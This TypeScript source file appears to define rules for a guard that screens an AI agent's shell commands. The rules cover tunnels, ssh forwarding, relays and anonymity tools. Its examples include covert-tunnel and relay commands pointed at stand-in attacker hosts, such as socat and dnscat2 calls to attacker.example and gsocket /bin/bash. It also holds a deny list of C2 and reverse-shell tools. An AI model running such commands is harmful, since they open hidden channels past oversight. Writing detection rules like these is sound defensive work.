/** Ways through the network: tunnels, relays, anonymity. */

import type { Connect, Listen, Run } from "../../meaning/action.ts";
import { show } from "../../meaning/value.ts";
import { canonicalHost, isLoopback } from "../../places/index.ts";
import { NO_ORDINARY_USE } from "../advice.ts";
import { ofAll } from "../of-all.ts";
import { type AnyRule, rule } from "../rule.ts";
import { calls } from "../shape.ts";
import { begins, each, has, inEarnest, operands, said, tries, words } from "../vocabulary.ts";

const PERSON = "Ask the person; say which port you need to reach, and from where.";

export const tunnels: readonly AnyRule[] = [
  rule({
    id: "tunnel/service",
    title: "Making something here reachable from the internet",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1572",
    why: "Whoever learns the address reaches this machine, past every firewall.",
    instead: PERSON,
    on: calls(
      "ngrok|cloudflared|lt|localtunnel|bore|pagekite|pagekite.py|zrok|inlets|telebit|tunnelmole|tmole",
      "playit|expose|holesail|untun|tailscale|pinggy|loophole|packetriot|sish|localxpose|loclx|tunnelto",
      "devtunnel|hookdeck|tmate|upterm|sshx|teleconsole|gotty|code",
    ),
    match: (action) => {
      if (tries(action)) return null;
      if (action.program === "tailscale")
        return begins(action, "funnel|serve|up|set|ssh") && !begins(action, "funnel|serve", "status|reset")
          ? said(action)
          : null;
      if (action.program === "code") return begins(action, "tunnel") ? said(action) : null;
      if (action.program === "expose" || action.program === "devtunnel")
        return words(action).length > 0 && !begins(action, "list|show") ? said(action) : null;
      if (action.program === "cloudflared" && begins(action, "tunnel", "list|info")) return null;
      return begins(action, "version|help|config|update|login") ? null : said(action);
    },
    examples: {
      block: [
        "ngrok http 3000",
        "cloudflared tunnel --url http://localhost:8080",
        "lt --port 3000",
        "bore local 8000 --to bore.pub",
        "tailscale funnel 443",
        "code tunnel",
        "tmate -F",
      ],
      allow: [
        "ngrok version",
        "cloudflared tunnel list",
        "tailscale status",
        "echo ngrok http 3000",
        "code .",
        "npm run tunnel",
      ],
    },
  }),
  rule({
    id: "tunnel/covert",
    title: "A tunnel or implant of the kind that intruders use",
    severity: "critical",
    decision: "deny",
    owasp: ["ASI10"],
    attack: "T1572",
    why: "These programs exist to get traffic or commands past those who watch.",
    instead: NO_ORDINARY_USE,
    on: calls(
      "chisel|iodine|iodined|dnscat|dnscat2|dns2tcp|dns2tcpc|ptunnel|ptunnel-ng|icmpsh|icmptunnel|ligolo-ng",
      "ligolo-proxy|ligolo-agent|regeorg|reGeorgSocksProxy|gost|frpc|frps|rathole|nps|npc|ew|earthworm",
      "stowaway|venom|pivotnacci|hans|udp2raw|stunnel|wstunnel|sshuttle|rpivot|revsocks|merlin|sliver",
      "sliver-client|pwncat|pwncat-cs|gsocket|gs-netcat|cryptcat|sbd|powercat|msfconsole|msfvenom|havoc",
      "covenant|empire|koadic|mythic-cli|villain|hoaxshell",
    ),
    match: (action) => (tries(action) ? null : `starts ${said(action)}`),
    examples: {
      block: [
        "chisel client 10.0.0.1:8080 R:socks",
        "iodine -f t.attacker.example",
        "dnscat2 attacker.example",
        "frpc -c frpc.ini",
        "gs-netcat -s x -i",
        "gsocket /bin/bash",
        "sshuttle -r user@host 0/0",
      ],
      allow: ["echo chisel", "grep frpc notes.md", "chisel --help"],
    },
  }),
  rule({
    id: "tunnel/ssh-remote",
    title: "A port of a far host that leads here (ssh -R)",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1572",
    why: "Whoever reaches that port there reaches this machine.",
    instead: PERSON,
    on: calls("ssh|autossh|plink|dropbear|dbclient"),
    match: (action) => {
      const found = forwards(action, "-R", /^-?o?RemoteForward[= ]/i);
      return found === null ? null : `forwards ${found} from there to here`;
    },
    examples: {
      block: [
        "ssh -R 8080:localhost:3000 user@host",
        "ssh -N -R 0.0.0.0:2222:localhost:22 host",
        "autossh -f -N -R 80:localhost:3000 host",
        "ssh -o RemoteForward=2222:localhost:22 host",
      ],
      allow: ["ssh host uptime", "ssh -L 5432:localhost:5432 host", "ssh -r x"],
    },
  }),
  rule({
    id: "tunnel/ssh-proxy",
    title: "Everything through a far host (ssh -D, -w)",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1090",
    why: "Traffic that goes through it is seen by no rule about hosts.",
    instead: PERSON,
    on: calls("ssh|autossh|plink"),
    match: (action) => {
      const found =
        forwards(action, "-D", /^-?o?DynamicForward[= ]/i) ??
        forwards(action, "-w", /^-?o?Tunnel[= ](?!no)/i);
      return found === null
        ? null
        : `sends everything through ${operands(action.call)[0] ?? "a far host"} (${found})`;
    },
    examples: {
      block: [
        "ssh -D 1080 user@host",
        "ssh -f -N -D 0.0.0.0:1080 host",
        "ssh -w 0:0 host",
        "ssh -o DynamicForward=1080 host",
      ],
      allow: ["ssh host", "ssh -L 8080:localhost:80 host", "ssh -d x"],
    },
  }),
  rule({
    id: "tunnel/ssh-open",
    title: "A forwarded port that everybody near can use",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02"],
    attack: "T1572",
    why: "Without an address the port is for this machine alone; with -g or 0.0.0.0 the whole network gets it.",
    instead: "Leave the address out: ssh -L 8080:localhost:80 host.",
    on: calls("ssh|autossh|kubectl"),
    match: (action) => {
      if (action.program === "kubectl")
        return begins(action, "port-forward") &&
          words(action).some((word) => /^(?:--address[= ]?)?(?:.*,)?0\.0\.0\.0$/.test(word))
          ? said(action)
          : null;
      const local = forwards(action, "-L", /^-?o?LocalForward[= ]/i);
      if (local === null) return null;
      return has(action.call, "-g") || everywhere(local.replace(/^-?o?LocalForward[= ]/i, ""))
        ? `forwards ${local} for everybody`
        : null;
    },
    examples: {
      block: [
        "ssh -g -L 8080:localhost:80 host",
        "ssh -L 0.0.0.0:5432:db:5432 host",
        "ssh -L *:80:x:80 host",
        "kubectl port-forward --address 0.0.0.0 svc/x 80",
      ],
      allow: [
        "ssh -L 8080:localhost:80 host",
        "ssh -L 127.0.0.1:5432:db:5432 host",
        "kubectl port-forward svc/x 8080:80",
      ],
    },
  }),
  rule({
    id: "tunnel/relay",
    title: "Relaying what comes in to another machine",
    severity: "high",
    decision: "ask",
    owasp: ["ASI02", "ASI10"],
    attack: "T1090.001",
    why: "This machine then stands between two others, and what passes is judged by nobody.",
    instead: PERSON,
    on: each("listen"),
    match: (action, context) => {
      if (!/^(?:socat|nc|ncat|netcat|redir|rinetd|simpleproxy)$/.test(action.by)) return null;
      const far = farEnds(context.actions).get(placeOf(action));
      return far === undefined ? null : `relays port ${action.port ?? "?"} to ${far}`;
    },
    examples: {
      block: [
        "socat TCP-LISTEN:8080,fork TCP:attacker.example:80",
        "socat TCP4-LISTEN:22,reuseaddr,fork TCP4:10.0.0.5:22",
      ],
      allow: ["socat TCP-LISTEN:8080,fork TCP:localhost:80", "nc -l 4444", "nc -z example.com 80"],
    },
  }),
  rule({
    id: "tunnel/anonymous",
    title: "Hiding where connections come from",
    severity: "high",
    decision: "deny",
    owasp: ["ASI10"],
    attack: "T1090.003",
    why: "What goes through it is seen by no rule about hosts, and nobody can tell later where it went.",
    instead: NO_ORDINARY_USE,
    on: calls(
      "tor|torify|torsocks|proxychains|proxychains4|proxychains-ng|tsocks|i2p|i2pd|i2prouter|obfs4proxy|nyx|anonsurf|onionshare|onionshare-cli",
    ),
    match: inEarnest,
    examples: {
      block: ["torsocks curl http://example.com", "proxychains4 ssh host", "tor"],
      allow: ["echo tor", "grep -r torsocks .", "man tor", "tor --version"],
    },
  }),
  rule({
    id: "tunnel/onion-host",
    title: "Connecting to a host that hides where it is",
    severity: "high",
    decision: "deny",
    owasp: ["ASI10"],
    attack: "T1090.003",
    why: "Nobody can tell who runs it, and nobody can tell later where it was.",
    instead: NO_ORDINARY_USE,
    on: each("connect"),
    match: ({ host }) => (host?.endsWith(".onion") ? `connects to ${host}` : null),
    examples: {
      block: [
        "curl --socks5-hostname localhost:9050 http://expyuzz4wqqyqhjn.onion/",
        "wget http://expyuzz4wqqyqhjn.onion/x",
      ],
      allow: ["curl http://example.com/a.onion", "grep -r example.onion ."],
    },
  }),
];

/** The address of a server that everybody can reach. */
function everywhere(text: string): boolean {
  return /^(?:0\.0\.0\.0|\*|::|\[::\]|0)(?::|$)/.test(text);
}

/** Forwardings of an ssh call: `-R`, `-L`, `-D`, `-w`, also as `-o RemoteForward=…`. */
function forwards(action: Run, flag: string, setting: RegExp): string | null {
  const given = action.call.options.get(flag)?.[0];
  if (given) return show(given);
  return words(action).find((word) => setting.test(word)) ?? null;
}

/** The call that an action belongs to: its program, and where it stands. */
function placeOf({ by, origin }: Connect | Listen): string {
  return `${by} ${origin.span.start}`;
}

/** The first other machine that each call connects to. */
const farEnds = ofAll((actions): ReadonlyMap<string, string> => {
  const ends = new Map<string, string>();
  for (const action of actions) {
    if (action.kind !== "connect" || action.host === null || isLoopback(canonicalHost(action.host))) continue;
    const place = placeOf(action);
    if (!ends.has(place)) ends.set(place, action.host);
  }
  return ends;
});
